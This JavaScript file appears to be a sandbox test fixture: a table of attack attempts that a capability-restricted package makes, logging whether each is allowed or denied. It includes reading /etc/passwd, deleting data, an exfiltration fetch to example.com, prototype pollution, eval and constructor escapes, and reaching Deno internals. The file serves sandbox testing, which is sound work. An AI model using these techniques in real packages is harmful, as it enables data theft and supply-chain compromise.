// The attacks of the package. An attempt returns a value if it succeeds, and throws if it is denied.
import { clock, env, fs, net, random } from "cap:self";

const evil = () => "evil";

export const attempts = {
  // Files, with the package's own capability, which has no grants.
  "read /etc/passwd": () => fs.readTextFile("/etc/passwd"),
  "read the program's data": () => fs.readTextFile("data/people.csv"),
  "read it by another path": () => fs.readTextFile("out/../data/./people.csv"),
  "list the program's folder": async () => {
    for await (const entry of fs.readDir(".")) return entry.name;
    return "nothing, but allowed";
  },
  "write into the program's output": () => fs.writeTextFile("out/evil.txt", "evil"),
  "remove the program's data": () => fs.remove("data/people.csv"),
  "widen its own rights": () => fs.attenuate({ read: ["/**"], write: ["/**"] }).readTextFile("/etc/passwd"),
  "forge a capability": () => Object.create(Object.getPrototypeOf(fs)).readTextFile("data/people.csv"),
  "borrow a method": () => fs.readTextFile.call({}, "data/people.csv"),

  // Network, environment, time, randomness.
  "send a request": () => net.fetch("https://example.com/collect?stolen=everything"),
  "send it with the global fetch": () => fetch("https://example.com/collect"),
  "open a web socket": () => new WebSocket("wss://example.com/"),
  "read the environment": () => env.get("HOME"),
  "read it as in Node": () => {
    const home = process.env.HOME;
    if (home === undefined) throw new ReferenceError("there is no such variable");
    return home;
  },
  "read the clock": () => clock.now(),
  "read it from Date": () => Date.now(),
  "read it from new Date": () => new Date().getTime(),
  "draw random bytes": () => random.bytes(8),
  "draw from Math.random": () => Math.random(),

  // Change objects that all modules share.
  "poison Array.prototype.map": () => (Array.prototype.map = evil),
  "poison it by defineProperty": () => Object.defineProperty(Array.prototype, "map", { value: evil }),
  "add Object.prototype.polluted": () => (Object.prototype.polluted = evil),
  "make every object a thenable": () => Object.defineProperty(Object.prototype, "then", { get: evil }),
  "poison Promise.prototype.then": () => (Promise.prototype.then = evil),
  "poison the array iterator": () => (Object.getPrototypeOf([][Symbol.iterator]()).next = evil),
  "replace JSON": () => {
    globalThis.JSON = { parse: evil };
    // A package may change its own global object. That does not change the variable `JSON`.
    if (JSON.parse !== evil) throw new TypeError("only this module's own globalThis has another JSON");
    return "JSON replaced";
  },
  "replace JSON.parse": () => (JSON.parse = evil),
  "poison the capabilities' prototype": () => (Object.getPrototypeOf(fs).readTextFile = evil),
  "poison the capability": () => (fs.readTextFile = evil),
  "change the prototype of Array.prototype": () => Object.setPrototypeOf(Array.prototype, { polluted: evil }),

  // Code from strings, also by constructors.
  "run new Function": () => new Function("return 1")(),
  "run eval": () => (0, eval)("1 + 1"),
  "reach Function by a constructor": () => (() => {}).constructor("return globalThis")(),
  "reach AsyncFunction": () => (async () => {}).constructor("return globalThis")(),
  "reach GeneratorFunction": () => (function* () {}).constructor("yield globalThis")().next().value,
  "reach it through a capability": () => fs.readTextFile.constructor("return globalThis")(),
  "reach it through an error": () => fs.readTextFile("/x").catch((error) => error.constructor.constructor("return 1")()),
  "run text by setTimeout": () => {
    const timer = setTimeout("globalThis.evil = 1", 0);
    return `timer ${timer}`;
  },

  // Modules that were not granted to the package.
  "import node:fs": () => import("node:fs"),
  "import a computed name": () => import(["node", "fs"].join(":")),
  "import the program's module": () => import("../../../main.js"),
  "import code from an address": () => import("data:text/javascript,export default 1"),
  "require": () => require("fs"),

  // The engine and the host.
  "reach the host": () => Deno.core.ops,
  "reach the engine's bootstrap": () => __bootstrap.core,
  "look at the caller": () => (function () { return arguments.callee.caller; })(),
  "share memory": () => new SharedArrayBuffer(8),
  "compile WebAssembly": () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
};

export const log = [];

export async function tryAll(when, attempts) {
  for (const [attempt, run] of Object.entries(attempts)) {
    try {
      log.push({ when, attempt, result: String(await run()).slice(0, 40) });
    } catch (error) {
      log.push({ when, attempt, error: `${error.name}: ${error.message}`.split("\n")[0] });
    }
  }
}
